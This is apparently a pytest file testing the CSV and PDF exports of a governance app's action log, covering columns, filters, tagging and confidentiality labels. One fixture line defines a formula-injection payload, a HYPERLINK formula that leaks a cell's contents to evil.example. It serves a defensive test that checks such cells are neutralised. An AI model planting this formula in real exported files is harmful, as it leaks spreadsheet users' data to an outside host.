"""The action log's exports: a CSV file for spreadsheets (UTF-8 with a byte order mark,
every matching action, no cell a spreadsheet would run) and a tagged PDF (title, language,
headings, a table, counts, the filters and page numbers), both with the log's filters."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest
from pypdf import PdfReader

from governors.actions import services
from governors.extensions import db
from tests.actions.conftest import path, pdf_text
from tests.agendas.test_pdf import structure_tags

# Monday 1 February 2027.
pytestmark = pytest.mark.clock(datetime(2027, 2, 1, 10, 0, tzinfo=UTC))
INJECTED = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the plan")'


@pytest.fixture
def logged(council, clock):
    clock.move_to(datetime(2027, 1, 21, 17, 0, tzinfo=UTC))
    late = council.raise_(
        "Send governors the falls prevention plan",
        date(2027, 1, 28),
        [council.governor, council.lead],
        named=("Sam Reid", "sam.reid@example.org"),
        item=council.public_item,
    )
    injected = council.raise_(INJECTED, date(2027, 2, 25), item=council.public_item)
    moved = council.raise_("+44 is the code to ring", date(2027, 2, 4), [council.lead])
    services.change_action(
        council.lead,
        moved,
        services.ActionDetails(
            description="-1 vacancies: fill the seat",
            due_on=date(2027, 3, 4),
            owners=[services.Owner(user_id=council.lead.id)],
        ),
    )
    done = council.raise_("@chair to write to the ICB", date(2027, 1, 29), [council.chair])
    services.update_progress(
        council.chair,
        done,
        services.Progress(
            status="done", outcome="=1+1 letters sent", progress="-3 wards left to visit"
        ),
    )
    db.session.commit()
    clock.move_to(datetime(2027, 2, 1, 10, 0, tzinfo=UTC))
    return {"late": late, "injected": injected, "moved": moved, "done": done}


def _csv(client, **query) -> list[list[str]]:
    with client.get(path("governors.actions.export_csv", **query)) as response:
        assert response.status_code == 200
        assert response.mimetype == "text/csv"
        assert response.headers["Content-Disposition"] == (
            'attachment; filename="action-log-2027-02-01.csv"'
        )
        assert response.headers["Cache-Control"] == "private, no-store"
        data = response.data
    # UTF-8 with a byte order mark, so Excel reads it as UTF-8.
    assert data.startswith("\N{BYTE ORDER MARK}".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_the_csv_export_has_every_column_and_every_matching_action(
    council, logged, client, sign_in
):
    sign_in(council.lead)
    rows = _csv(client)
    assert rows[0] == [
        "ID",
        "Action",
        "Body",
        "Meeting",
        "Item",
        "Owners",
        "Due",
        "First due",
        "Status",
        "Overdue",
        "Progress",
        "Outcome or reason",
        "Raised on",
    ]
    by_id = {row[0]: row for row in rows[1:]}
    assert by_id[str(logged["late"].id)] == [
        str(logged["late"].id),
        "Send governors the falls prevention plan",
        "Council of Governors",
        "Council of Governors meeting, Thursday 21 January 2027",
        "Quality and safety report",
        "Helen Carter, Lee Grant, Sam Reid",
        "2027-01-28",
        "2027-01-28",
        "Open",
        "Yes",
        "",
        "",
        "2027-01-21",
    ]
    moved = by_id[str(logged["moved"].id)]
    assert moved[3:5] == ["", ""]  # raised on its own
    assert moved[6:10] == ["2027-03-04", "2027-02-04", "Open", "No"]
    done = by_id[str(logged["done"].id)]
    assert done[8:12] == ["Done", "No", "'-3 wards left to visit", "'=1+1 letters sent"]
    # Overdue first, as the log.
    assert rows[1][0] == str(logged["late"].id)
    assert len(rows) == 1 + 4


def test_no_cell_of_the_csv_export_can_run_as_a_formula(council, logged, client, sign_in):
    sign_in(council.lead)
    rows = _csv(client)
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    descriptions = {row[1] for row in rows[1:]}
    assert "'" + INJECTED in descriptions
    assert "'-1 vacancies: fill the seat" in descriptions
    assert "'@chair to write to the ICB" in descriptions


def test_the_csv_export_has_every_action_not_one_page_and_keeps_the_filters(
    council, client, sign_in
):
    for n in range(55):
        council.raise_(f"Numbered action {n:02d}", date(2027, 2, 1) + timedelta(days=n))
    council.raise_("A committee action", date(2027, 2, 1), [council.member], body=council.committee)
    sign_in(council.lead)
    assert len(_csv(client)) == 1 + 56
    assert [row[1] for row in _csv(client, body=str(council.committee.id))[1:]] == [
        "A committee action"
    ]
    assert len(_csv(client, period="today")) == 1 + 2
    assert len(_csv(client, owner=str(council.member.id))) == 1 + 1
    assert _csv(client, status="dropped") == [_csv(client)[0]]


def test_the_pdf_export_is_tagged_with_a_title_language_headings_and_a_table(
    council, logged, client, sign_in
):
    sign_in(council.lead)
    with client.get(path("governors.actions.export_pdf", status="still_open")) as response:
        assert response.status_code == 200
        assert response.mimetype == "application/pdf"
        assert response.headers["Content-Disposition"] == (
            'inline; filename="action-log-2027-02-01.pdf"'
        )
        assert response.headers["Cache-Control"] == "private, no-store"
        data = response.data
    reader = PdfReader(io.BytesIO(data))
    assert reader.metadata.title == "Action log, Monday 1 February 2027"
    catalog = reader.trailer["/Root"]
    assert catalog["/Lang"] == "en-GB"
    assert catalog["/MarkInfo"]["/Marked"].value is True
    tags = structure_tags(catalog["/StructTreeRoot"].get_object())
    assert {"/H1", "/H2", "/Table", "/TH", "/TD"} <= tags
    pages = pdf_text(data)
    text = " ".join(pages)
    assert "Action log" in text
    assert "Made: Monday 1 February 2027, for Lee Grant" in text
    assert "Filters: Status: Open or in progress" in text
    # Counts by status, of the filtered log.
    assert "Overdue Open In progress Done Dropped All 1 3 0 0 0 3" in text
    assert "Send governors the falls prevention plan" in text
    assert "Helen Carter, Lee Grant, Sam Reid" in text
    assert "Thursday 4 March 2027 First due Thursday 4 February 2027" in text
    assert "@chair to write" not in text  # done: not open
    assert all(f"Page {n} of {len(pages)}" in page for n, page in enumerate(pages, start=1))
    # Nothing private in it: not confidential.
    assert "CONFIDENTIAL" not in text


def test_a_long_pdf_export_says_confidential_on_every_page_when_it_holds_private_business(
    council, client, sign_in
):
    council.raise_("Agree the settlement terms", date(2027, 2, 18), item=council.private_item)
    for n in range(60):
        council.raise_(f"Numbered action {n:02d} " + "with a long description " * 4)
    sign_in(council.lead)
    with client.get(path("governors.actions.export_pdf")) as response:
        pages = pdf_text(response.data)
    assert len(pages) > 1
    for page in pages:
        assert "CONFIDENTIAL \N{EN DASH} private part included \N{EN DASH} not for publication" in (
            page
        )
    text = " ".join(pages)
    assert "Agree the settlement terms (private business)" in text
    assert "Filters: none, so every action you may see" in text


def test_the_log_page_links_to_both_exports_with_its_filters(council, logged, client, sign_in):
    sign_in(council.lead)
    html = client.get(path("governors.actions.log", period="overdue", owner=council.governor.id))
    page = html.get_data(as_text=True)
    query = f"period=overdue&amp;owner={council.governor.id}"
    assert f'href="/actions/export.csv?{query}"' in page
    assert f'href="/actions/export.pdf?{query}"' in page
    with client.get(
        path("governors.actions.export_pdf", period="overdue", owner=council.governor.id)
    ) as response:
        text = " ".join(pdf_text(response.data))
    assert "Filters: Due: Overdue; Owner: Helen Carter" in text
